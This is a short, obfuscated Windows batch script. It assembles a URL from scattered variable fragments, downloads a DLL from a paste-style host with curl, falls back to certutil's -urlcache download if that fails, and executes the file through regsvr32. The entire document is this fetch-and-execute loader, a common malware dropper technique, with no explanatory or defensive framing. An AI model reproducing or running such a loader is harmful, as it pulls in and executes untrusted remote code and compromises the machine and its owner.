@echo off
Set IJx=Set
%IJx% yxw=c
%IJx% ctn=u
%IJx% hlb=r
%IJx% ftq=l
%IJx% ekw=ht
%IJx% jsd=tps:
%IJx% zrb=//pas
%IJx% kpm=te.example.net/
%IJx% uqo=sdd.dll
%yxw%%ctn%%hlb%%ftq% %ekw%%jsd%%zrb%%kpm%%uqo% -o compile.dll
if not exist compile.dll (
  certutil.exe -urlcache -f %ekw%%jsd%%zrb%%kpm%%uqo% compile.dll
)
regsvr32.exe -e -n -i:"Server" compile.dll
